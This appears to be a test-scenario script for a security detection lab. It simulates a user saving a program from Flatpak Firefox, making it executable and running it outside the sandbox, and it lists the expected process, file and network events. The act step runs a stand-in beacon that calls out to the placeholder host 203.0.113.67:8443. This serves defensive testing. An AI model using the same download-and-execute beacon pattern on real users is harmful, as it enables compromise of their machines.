# The browser lives in a sandbox; what it saves in its own folder is run outside of it.
title="Program saved by Firefox in Flatpak below ~/.var/app, made executable and run"
what="Firefox ESR as a Flatpak application, in the real flatpak's bubblewrap, saves viewer from a chat service into ~/.var/app/org.mozilla.firefox/Downloads. The buyer makes it executable in a terminal and runs it from there, outside of the sandbox; it calls out to 203.0.113.67. The runtime and the application are made by the laboratory of what Debian installs."
host=ws3.example.org user=buyer daemons="cron"

setup() {
  flatpak_firefox /home/buyer/.var/app/org.mozilla.firefox/Downloads || return 1
  cc -O1 -o "$base/out/www/viewer" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 2
  display_up
  desktop_as buyer -- /usr/bin/flatpak run org.mozilla.firefox --no-remote http://chat.example.com/viewer
  wait_file /home/buyer/.var/app/org.mozilla.firefox/Downloads/viewer 60
  sleep 3
  desktop_close
  console_as buyer <<'L'
cd .var/app/org.mozilla.firefox/Downloads
ls -l
chmod +x viewer
./viewer 203.0.113.67 8443
L
  small_talk 1
}
truth() {
  exec_step sandbox 'bwrap ' 'flatpak builds the sandbox'
  exec_step browser '/app/lib/firefox/firefox-esr' 'the browser starts in it'
  file_step save 'firefox-esr rename.*/.var/app/org.mozilla.firefox/Downloads/viewer' 'it saves the program'
  exec_step execute 'viewer 203.0.113.67' 'the program is run outside of the sandbox'
  net_step beacon 'viewer 203.0.113.67:8443' 'and calls out'
}
